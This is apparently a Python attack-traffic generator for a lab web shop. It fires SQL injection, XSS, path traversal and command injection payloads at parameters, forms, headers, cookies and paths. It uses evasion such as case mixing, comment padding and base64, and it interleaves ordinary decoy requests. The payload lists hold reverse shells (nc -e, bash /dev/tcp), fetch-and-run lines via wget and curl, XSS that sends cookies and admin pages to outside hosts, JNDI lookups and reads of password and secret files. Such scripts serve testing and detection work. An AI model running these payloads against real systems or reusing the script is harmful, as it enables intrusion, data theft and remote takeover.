"""Tries payloads of one kind against the lab's shop, in parameters, forms, headers and paths, as somebody with a list and a script does.

Call: web_attack.py --kind sqli|xss|traversal|command --url URL --count N --pause-ms MS --seed N
"""

import argparse
import base64
import http.client
import random
import time
from urllib.parse import quote, quote_plus, urlsplit

SQLI = [
    "' OR '1'='1", "' OR 1=1 -- -", "1 OR 1=1", "1 AND 1=2", "' UNION SELECT {n},name,password FROM users -- -", "1 UNION SELECT 1,name,password,4 FROM users",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL", "' UNION SELECT 1,sqlite_version(),3 -- ", "'; DROP TABLE items; --", "1; SELECT load_extension('x')",
    "admin'--", "admin' #", "' OR 'x'='x' /*", "1' AND SLEEP(5)-- -", "1 AND (SELECT {n} FROM (SELECT(SLEEP(5)))a)", "1' ORDER BY {n}-- -", "1 ORDER BY {n}",
    "' AND (SELECT COUNT(*) FROM sqlite_master) > {n} -- ", "1 AND substr((select password from users limit 1),{n},1)='a'", "' || (SELECT tbl_name FROM sqlite_master LIMIT 1) || '",
    "1/**/UNION/**/SELECT/**/1,2,3,4", "1 uNiOn aLl sElEcT 1,2,3,4--", "') OR ('1'='1", "\" OR \"\"=\"", "1 AND EXTRACTVALUE({n},CONCAT(0x5c,version()))",
    "1; WAITFOR DELAY '0:0:5'--", "1 PROCEDURE ANALYSE(EXTRACTVALUE({n},1),1)", "-1 UNION SELECT table_name,2,3,4 FROM information_schema.tables",
]
XSS = [
    "<script>alert({n})</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert({n})>", "<svg/onload=alert({n})>", "'-alert({n})-'",
    "javascript:alert({n})", "<body onload=alert({n})>", "<iframe src=javascript:alert({n})>", "\" onmouseover=\"alert({n})", "<ScRiPt>prompt({n})</sCrIpT>",
    "<script src=//{n}.test/x.js></script>", "<script>new Image().src='//h{n}.test/?'+document.cookie</script>", "<details open ontoggle=alert({n})>",
    "%3Cscript%3Ealert({n})%3C/script%3E", "<a href=\"javas&#99;ript:alert({n})\">x</a>", "<math><mi xlink:href=\"data:x,<script>alert({n})</script>\">",
    "<input autofocus onfocus=alert({n})>", "<marquee onstart=alert({n})>", "<script>fetch('/admin').then(r=>r.text()).then(t=>fetch('//h{n}.test',{{method:'POST',body:t}}))</script>",
]
TRAVERSAL = [
    "../../../../etc/passwd", "../../../../../../../../etc/shadow", "/etc/passwd", "....//....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd", "..\\..\\..\\windows\\win.ini", "../../../../proc/self/environ", "../../../../proc/version", "php://filter/convert.base64-encode/resource=index",
    "file:///etc/passwd", "../../../../etc/passwd%00.txt", "..%c0%af..%c0%afetc/passwd", "../../../../var/log/apache2/access.log", "../config/database.yml", "../../.env",
    "http://h{n}.test/shell.txt?", "expect://id", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUW2NdKTs/Pg==", "../../../../../../boot.ini", "/proc/self/cmdline", "../../../etc/hosts",
]
COMMAND = [
    "127.0.0.1; id", "127.0.0.1 && whoami", "127.0.0.1 | cat /etc/passwd", "`id`", "$(whoami)", "127.0.0.1; sleep 3", "127.0.0.1%0aid", "127.0.0.1; uname -a; ls -la",
    "; wget http://h{n}.test/x.sh -O /var/tmp/x; sh /var/tmp/x", "| nc -e /bin/sh 10.{n}.0.1 4444", "; bash -i >& /dev/tcp/10.{n}.0.1/4444 0>&1", "; curl http://h{n}.test/m.sh | sh",
    "|| ping -c 3 10.{n}.0.1", "& net user", "; python3 -c 'import socket,subprocess,os;s=socket.socket()'", "{{{{7*{n}}}}}", "${{7*{n}}}", "<%= system('id') %>",
    "${{jndi:ldap://h{n}.test/a}}", "${{${{lower:j}}ndi:${{lower:l}}dap://h{n}.test/a}}", "() {{ :; }}; echo; /bin/cat /etc/passwd", "%{{(#a=@java.lang.Runtime@getRuntime().exec('id'))}}",
]
PLACES = {
    "sqli": [("get", "/search", "q"), ("get", "/item", "id"), ("get", "/api/items", "sort"), ("post", "/login", "username"), ("post", "/login", "password"), ("cookie", "/", "session")],
    "xss": [("get", "/search", "q"), ("post", "/comments", "text"), ("get", "/item", "id"), ("header", "/", "Referer"), ("post", "/login", "username")],
    "traversal": [("get", "/file", "name"), ("get", "/file", "name"), ("path", "/", ""), ("get", "/index.php", "page"), ("get", "/search", "template")],
    "command": [("get", "/ping", "host"), ("post", "/ping", "host"), ("header", "/", "User-Agent"), ("get", "/search", "q"), ("header", "/login", "X-Api-Version")],
}
ORDINARY = ["/", "/search?q=lamp", "/search?q=chair", "/item?id=4", "/item?id=17", "/comments", "/file?name=terms.txt", "/login", "/robots.txt"]
AGENTS = ["python-requests/2.31.0", "curl/7.88.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
          "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36", "Go-http-client/1.1"]


def varied(rng, payload):
    choice = rng.random()
    if choice < 0.15:
        return "".join(letter.upper() if rng.random() < 0.5 else letter.lower() for letter in payload)
    if choice < 0.22:
        return payload.replace(" ", "/**/")
    if choice < 0.27:
        return base64.b64encode(payload.encode()).decode()
    return payload


def request_of(rng, kind, base):
    payload = varied(rng, rng.choice({"sqli": SQLI, "xss": XSS, "traversal": TRAVERSAL, "command": COMMAND}[kind]).format(n=rng.randint(1, 99)))
    place, path, name = rng.choice(PLACES[kind])
    encode = rng.choice([quote, quote_plus, lambda text: quote(text, safe="'()<>/;:=*,")])
    headers = {}
    if place == "get":
        return "GET", f"{base}{path}?{name}={encode(payload)}", None, headers
    if place == "post":
        other = "&password=x" if name == "username" else "&username=admin" if name == "password" else ""
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        return "POST", base + path, f"{name}={quote_plus(payload)}{other}", headers
    if place == "path":
        return "GET", f"{base}/{quote(payload, safe='/.%')}", None, headers
    headers["Cookie" if place == "cookie" else name] = f"session={quote(payload)}" if place == "cookie" else payload.replace("\n", "")
    return "GET", base + path, None, headers


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--kind", required=True)
    parser.add_argument("--url", required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--pause-ms", type=float, required=True)
    parser.add_argument("--seed", type=int, required=True)
    args = parser.parse_args()
    rng, parts, end = random.Random(args.seed), urlsplit(args.url), time.monotonic() + 50
    agent, keep, client = rng.choice(AGENTS), rng.random() < 0.5, None
    for _ in range(args.count):
        if time.monotonic() > end:
            break
        looks = rng.random() < 0.2
        method, path, body, headers = ("GET", parts.path + rng.choice(ORDINARY), None, {}) if looks else request_of(rng, args.kind, parts.path)
        try:
            client = client or http.client.HTTPConnection(parts.hostname, parts.port, timeout=8)
            client.request(method, path, body, {"User-Agent": agent, "Accept": "*/*"} | headers)
            answer = client.getresponse()
            answer.read()
            print(answer.status, method, path, body or "")
            if not keep or answer.will_close or rng.random() < 0.2:
                client.close()
                client = None
        except (OSError, http.client.HTTPException, ValueError) as error:
            print(type(error).__name__, error)
            client = None
        time.sleep(rng.expovariate(1000 / args.pause_ms))


main()
